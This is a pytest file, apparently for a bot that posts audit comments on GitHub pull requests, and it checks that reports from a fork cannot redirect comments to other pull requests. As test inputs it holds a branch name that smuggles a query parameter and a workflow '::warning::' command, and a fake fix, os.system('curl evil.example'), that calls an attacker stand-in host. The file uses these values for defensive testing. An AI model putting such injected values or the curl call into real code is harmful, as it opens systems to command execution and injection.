"""The workflow that follows another: what it posts is hostile, so where it posts is the event's to say."""

import json
from typing import Any

import msgspec
import pytest

from drift.report.json import json_report
from tests.bot.audits import audit, divergence
from tests.bot.conftest import Job
from tests.bot.github_forge import HEAD, REPOSITORY, GitHub
from tests.bot.test_lines import PATCH

OURS = {"number": 7, "base": {"repo": {"url": f"https://api.github.com/repos/{REPOSITORY}"}}}
THEIRS = {"number": 8, "base": {"repo": {"url": "https://api.github.com/repos/mallory/shop"}}}
FORK = {"owner": {"login": "mallory"}}


@pytest.fixture
def followed(github: GitHub, job: Job) -> GitHub:
    """The run of a fork's pull request 7 has ended; another pull request is open, too."""
    job.set(GITHUB_EVENT_NAME="workflow_run")
    ended(job)
    github.pulls = [(9, "octocat:patch", "c" * 40), (7, "mallory:patch", HEAD), (8, "mallory:other", HEAD)]
    return github


def ended(job: Job, **changes: Any) -> None:
    run = {"head_sha": HEAD, "head_branch": "patch", "head_repository": FORK, "pull_requests": []}
    job.event(workflow_run={**run, **changes})


def hostile_number() -> bytes:
    document = json.loads(json_report(audit(1)))
    return json.dumps({**document, "pull_request": 8, "number": 8, "event": {"number": 8}}).encode()


def test_the_number_is_the_events(followed: GitHub, job: Job) -> None:
    ended(job, pull_requests=[THEIRS, OURS])
    assert job.comment(hostile_number()).status == 0
    assert len(followed.bodies()) == 1
    assert all(not one.path.endswith("/pulls") and "/8" not in one.path for one in followed.asked)


def test_of_a_fork_it_is_found_by_the_events_branch_and_commit(followed: GitHub, job: Job) -> None:
    assert job.comment(hostile_number()).err == "allium comment: comment written\n"
    assert len(followed.bodies()) == 1
    (listed,) = [one for one in followed.asked if one.path.endswith("/pulls")]
    assert (listed.query["head"], listed.query["state"]) == ("mallory:patch", "open")


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"head_branch": "patch-2"}, "no open pull request comes from mallory:patch-2"),
        ({"head_repository": None}, "is about no pull request"),
        ({"head_branch": None}, "is about no pull request"),
        ({"head_repository": {"owner": {"login": 5}}}, "is about no pull request"),
        ({"pull_requests": [THEIRS]}, ""),
        ({"pull_requests": "7"}, ""),
        ({"head_sha": "d" * 40}, "a newer commit is there"),
        ({"head_sha": None}, "the event does not name the commit"),
    ],
)
def test_events_of_all_kinds(followed: GitHub, job: Job, changes: dict[str, Any], message: str) -> None:
    ended(job, **changes)
    assert (message or "comment written") in job.comment(audit(1)).err
    assert len(followed.bodies()) == (0 if message else 1)


def test_of_two_from_one_branch_none_is_guessed(followed: GitHub, job: Job) -> None:
    followed.pulls.append((12, "mallory:patch", HEAD))
    outcome = job.comment(audit(1))
    assert "several pull requests come from mallory:patch: 7, 12 (--pull-request N)" in outcome.err
    assert followed.bodies() == []
    assert "comment written" in job.comment(audit(1), "--pull-request", 7).err


@pytest.mark.parametrize("number", [8, 9])
def test_a_number_that_is_named_must_be_one_of_the_events(followed: GitHub, job: Job, number: int) -> None:
    """Number 8 is at the same commit: who pushes somebody else's commit does not speak for them."""
    outcome = job.comment(audit(1), "--pull-request", number, "--require-comment")
    assert outcome.status == 2
    assert (
        f"pull request {number} is not at the commit that the event is about: nothing is posted"
        in outcome.err
    )
    assert followed.writes() == []


def test_without_a_branch_the_number_must_be_at_the_events_commit(followed: GitHub, job: Job) -> None:
    ended(job, head_repository=None)
    assert "comment written" in job.comment(audit(1), "--pull-request", 7).err
    followed.head = "d" * 40
    outcome = job.comment(audit(2), "--pull-request", 7, "--require-comment")
    assert outcome.status == 2
    assert "is not at the commit that the event is about: nothing is posted" in outcome.err
    assert "divergence number 2" not in followed.bodies()[0]


def test_a_branch_of_any_name(followed: GitHub, job: Job) -> None:
    name = "a&state=closed/ü#1\n::warning::x"
    ended(job, head_branch=name)
    followed.pulls = [(7, f"mallory:{name}", HEAD)]
    assert "comment written" in job.comment(audit(1)).err
    followed.pulls = []
    outcome = job.comment(audit(1))
    assert outcome.err.count("\n") == 1 and "no open pull request" in outcome.err


def test_nobody_elses_fix_is_offered_to_be_committed(followed: GitHub, job: Job) -> None:
    followed.files = [("src/shop.py", PATCH)]
    fixed = msgspec.structs.replace(divergence(2), fix="    os.system('curl evil.example')")
    assert "1 comment on lines" in job.comment(audit(fixed)).err
    said = str(followed.reviews) + str(followed.bodies())
    assert "suggestion" not in said and "curl" not in said


def test_a_number_without_a_commit_to_check_it_against_is_refused(github: GitHub, job: Job) -> None:
    job.event(schedule="daily")
    outcome = job.comment(audit(1), "--pull-request", 7)
    assert "names no commit" in outcome.err
    assert github.asked == []
